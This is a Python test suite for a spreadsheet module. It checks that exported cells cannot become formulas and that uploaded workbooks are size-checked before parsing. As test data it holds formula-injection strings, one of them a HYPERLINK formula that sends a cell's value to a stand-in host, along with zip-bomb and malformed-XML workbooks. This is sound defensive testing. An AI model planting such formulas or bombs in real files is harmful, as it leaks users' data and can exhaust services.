"""core.spreadsheets: what we write can only be data (read back with openpyxl and as raw XML),
and what we read is measured from the zip before openpyxl sees it."""

import io
import time
import zipfile
from datetime import date, datetime
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from core import spreadsheets
from core.spreadsheets import WorkbookLimits, WorkbookRefused, inspect_workbook
from tests.core import xlsx

HOSTILE = [
    '=HYPERLINK("http://x/?"&B2,"点击查看")',
    "=1+1",
    "+1+1",
    "-5",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "-",
]


def _write(values, *, write_only=True) -> bytes:
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("数据") if write_only else book.active
    sheet.append(spreadsheets.row(sheet, values))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        [name] = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        return archive.read(name).decode()


@pytest.mark.parametrize("write_only", [True, False])
def test_formula_like_text_is_written_as_quoted_text(write_only):
    content = _write(HOSTILE, write_only=write_only)
    assert "<f>" not in _sheet_xml(content) and "<f " not in _sheet_xml(content)
    [row] = load_workbook(io.BytesIO(content)).worksheets[0].iter_rows()
    for cell, text in zip(row, HOSTILE, strict=True):
        assert cell.value == text  # exactly what was typed
        assert cell.data_type == "s"
        assert cell.quotePrefix  # Excel keeps it text when someone edits the cell


def test_only_text_is_touched_numbers_money_and_dates_stay_typed():
    values = [-5, 3.5, Decimal("-12.34"), date(2025, 3, 1), datetime(2025, 3, 1, 9, 30), True]
    content = _write([*values, "普通文字", None, "-5"])
    [row] = load_workbook(io.BytesIO(content)).worksheets[0].iter_rows()
    assert [c.data_type for c in row[:6]] == ["n", "n", "n", "d", "d", "b"]
    assert row[0].value == -5 and row[2].value == -12.34 and row[3].value.date() == values[3]
    assert not any(c.quotePrefix for c in row[:7])
    assert (row[6].value, row[6].data_type) == ("普通文字", "s")
    assert (row[8].value, row[8].data_type, row[8].quotePrefix) == ("-5", "s", True)


def test_characters_xml_forbids_are_replaced_never_an_error():
    texts = ["研讨\x0b活动", "a\x00b", "x\x1fy", "a\ufffeb", "a\ud800b", "tab\tnew\nline\r"]
    content = _write(texts)
    [row] = load_workbook(io.BytesIO(content)).worksheets[0].iter_rows(values_only=True)
    assert row[:5] == ("研讨\ufffd活动", "a\ufffdb", "x\ufffdy", "a\ufffdb", "a\ufffdb")
    assert row[5] == "tab\tnew\nline\r"  # what XML allows is kept


def test_cells_made_by_hand_are_checked_too():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    made = spreadsheets.cell(sheet, "=1+1\x0b")
    from openpyxl.cell import WriteOnlyCell

    careless = WriteOnlyCell(sheet, value="=2+2")  # a formula, as openpyxl would write it
    sheet.append(spreadsheets.row(sheet, [made, careless]))
    buffer = io.BytesIO()
    book.save(buffer)
    assert "<f>" not in _sheet_xml(buffer.getvalue())
    [row] = load_workbook(buffer).worksheets[0].iter_rows(values_only=True)
    assert row == ("=1+1\ufffd", "=2+2")


def test_overlong_text_is_cut_to_what_a_cell_holds():
    [row] = (
        load_workbook(io.BytesIO(_write(["长" * 40_000]))).worksheets[0].iter_rows(values_only=True)
    )
    assert len(row[0]) == spreadsheets.MAX_CELL_CHARS and row[0].endswith("…")


def test_text_only_outputs_get_an_apostrophe():
    assert spreadsheets.inert_text("=1+1") == "'=1+1"
    assert spreadsheets.inert_text("-5") == "'-5"
    assert spreadsheets.inert_text("普通\x0b") == "普通\ufffd"
    assert spreadsheets.inert_text(-5) == -5


def test_sheet_titles_are_names_excel_accepts():
    assert spreadsheets.sheet_title("柳州/2024:政策[试行]") == "柳州 2024 政策 试行"
    assert spreadsheets.sheet_title("a\x0bb") == "a b"
    assert spreadsheets.sheet_title("'''") == "-"
    assert len(spreadsheets.sheet_title("长" * 40)) == 31


# --- reading -----------------------------------------------------------------------------------

LIMITS = WorkbookLimits(
    total_bytes=10_000_000,
    part_bytes=5_000_000,
    parts=20,
    rows=100,
    data_rows=50,
    shared_strings=30,
    shared_strings_bytes=100_000,
)


def _refused(content: bytes, limits=LIMITS) -> str:
    with pytest.raises(WorkbookRefused) as caught:
        inspect_workbook(content, limits)
    return str(caught.value)


def test_a_workbook_as_excel_writes_it_is_measured():
    rows = [["学校名称", "学校代码"], *[[f"学校{i}", f"code{i}"] for i in range(10)]]
    facts = inspect_workbook(xlsx.excel_workbook(rows), LIMITS)
    assert (facts.rows, facts.shared_strings, facts.parts) == (11, 22, 6)
    assert 0 < facts.unpacked_bytes < 10_000


def test_too_many_rows_is_refused_blank_ones_and_gaps_included():
    assert "100" in _refused(xlsx.blank_rows_bomb(101), LIMITS)
    inspect_workbook(xlsx.blank_rows_bomb(99), LIMITS)  # header + 99 blank rows: fine
    # one row numbered far down: openpyxl would hand out every empty row before it
    sheet = f'{xlsx.SHEET_HEAD}<sheetData><row r="5000000"/></sheetData></worksheet>'
    assert "100" in _refused(xlsx.package({"xl/worksheets/sheet1.xml": sheet}))
    # a prefixed tag, attributes in any order and spacing, single quotes
    sheet = (
        f'<x:worksheet xmlns:x="{xlsx.MAIN}"><x:sheetData>'
        "<x:row spans='1:2' r = '101' ht=\"15\"/></x:sheetData></x:worksheet>"
    )
    _refused(xlsx.package({"xl/worksheets/sheet1.xml": sheet}))


@pytest.mark.parametrize(
    "row",
    [
        '<row r="&#53;000000"/>',  # a character reference openpyxl would decode
        '<row r="5e6"/>',  # a float openpyxl would accept
        '<row foo=">" r="9999"/>',  # '>' inside an attribute value does not end the tag
    ],
)
def test_row_numbers_that_hide_their_size_are_refused(row):
    sheet = f"{xlsx.SHEET_HEAD}<sheetData>{row}</sheetData></worksheet>"
    _refused(xlsx.package({"xl/worksheets/sheet1.xml": sheet}))


def test_a_sheet_in_utf16_is_counted_and_odd_encodings_are_refused():
    """openpyxl reads a UTF-16 sheet (20,000 rows in 240 kB) whose bytes hold no "<row"."""
    body = "<sheetData>" + "<row/>" * 101 + "</sheetData></worksheet>"
    sheet = (xlsx.SHEET_HEAD.replace("UTF-8", "UTF-16") + body).encode("utf-16")
    assert b"<row" not in sheet
    assert "100" in _refused(xlsx.package({"xl/worksheets/sheet1.xml": sheet}))
    for name in ("UTF-7", "IBM037", "UTF-32"):
        sheet = xlsx.SHEET_HEAD.replace("UTF-8", name) + body
        _refused(xlsx.package({"xl/worksheets/sheet1.xml": sheet}))
    sheet = (xlsx.SHEET_HEAD + body).encode("utf-32")
    _refused(xlsx.package({"xl/worksheets/sheet1.xml": sheet}))
    gbk = (xlsx.SHEET_HEAD.replace("UTF-8", "GBK") + "<sheetData><row/></sheetData>").encode("gbk")
    assert inspect_workbook(xlsx.package({"xl/worksheets/sheet1.xml": gbk}), LIMITS).rows == 1


def test_pictures_are_not_read_as_xml():
    picture = b"\x89PNG\r\n\x1a\n" + b"<!DOCTYPE <row r='9999999'> <si>" * 1000
    facts = inspect_workbook(xlsx.package({"xl/media/image1.png": picture}), LIMITS)
    assert (facts.rows, facts.shared_strings) == (0, 0)


def test_a_lying_dimension_does_not_count():
    rows = [[f"x{i}"] for i in range(150)]
    content = xlsx.excel_workbook(rows, dimension="A1:A2")
    assert "100" in _refused(content)


def test_shared_strings_are_counted_and_their_table_sized():
    many = xlsx.excel_workbook([[f"不同的文字{i}"] for i in range(31)])
    assert "30" in _refused(many)
    big = xlsx.excel_workbook([["长" * 40_000]])  # one text, 120 kB as UTF-8
    assert "KB" in _refused(big) or "kB" in _refused(big)


def test_parts_and_unpacked_sizes_come_from_the_zip_directory():
    many_parts = xlsx.package({f"xl/media/image{i}.png": b"x" for i in range(20)})
    assert "24" in _refused(many_parts)
    big_part = xlsx.package({"xl/worksheets/sheet1.xml": " " * 5_000_001})
    assert "MB" in _refused(big_part)
    total = xlsx.package({f"xl/media/{i}.bin": b"\0" * 4_000_000 for i in range(3)})
    assert "MB" in _refused(total)


def test_a_dtd_and_damaged_files_are_refused():
    sheet = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><worksheet/>'
    _refused(xlsx.package({"xl/worksheets/sheet1.xml": sheet}))
    _refused(b"PK\x03\x04 not really a zip")
    _refused(b"")
    good = xlsx.excel_workbook([["a"]])
    # flip bytes inside the compressed data of the last entry: its CRC no longer holds
    damaged = bytearray(good)
    offset = good.rfind(b"PK\x03\x04") + 60
    damaged[offset : offset + 8] = b"\xff" * 8
    _refused(bytes(damaged))


def test_bombs_are_refused_from_the_directory_in_milliseconds(monkeypatch):
    """The issue's two files: millions of blank rows, one huge shared string (both build here
    as a few hundred kB to 2 MB, streamed); refused without unpacking a byte."""
    limits = WorkbookLimits(
        total_bytes=32 * 1024 * 1024,
        part_bytes=16 * 1024 * 1024,
        parts=100,
        rows=10_000,
        data_rows=5000,
        shared_strings=100_000,
        shared_strings_bytes=8 * 1024 * 1024,
    )
    bombs = [xlsx.blank_rows_bomb(5_000_000), xlsx.huge_string_bomb(400)]
    opened = []
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda *args, **kw: opened.append(args))
    for bomb in bombs:
        assert len(bomb) < 5 * 1024 * 1024  # passes the upload's own size limit
        started = time.perf_counter()
        message = _refused(bomb, limits)
        assert time.perf_counter() - started < 0.5  # the issue asks: well under a second
        assert "16.0\xa0MB" in message
    assert opened == []  # no part was unpacked


# --- hostile bytes ---------------------------------------------------------------------------

GOOD = xlsx.excel_workbook([["学校名称", "学校代码"], ["一中", "yz"], ["二中", 2]])


@settings(max_examples=300, derandomize=True, deadline=None)
@given(
    edits=st.lists(
        st.tuples(st.integers(0, len(GOOD) - 1), st.binary(min_size=1, max_size=8)),
        min_size=1,
        max_size=6,
    ),
    cut=st.integers(0, len(GOOD)),
)
def test_damaged_workbooks_are_measured_or_refused_never_an_error(edits, cut):
    """Bytes changed anywhere (headers, directory, compressed data), or the file cut short:
    the answer is facts or a refusal with a message, never another exception."""
    damaged = bytearray(GOOD)
    for offset, data in edits:
        damaged[offset : offset + len(data)] = data
    for content in (bytes(damaged), bytes(damaged[:cut])):
        try:
            facts = inspect_workbook(content, LIMITS)
        except WorkbookRefused as exc:
            assert str(exc)
        else:
            assert facts.rows <= LIMITS.rows
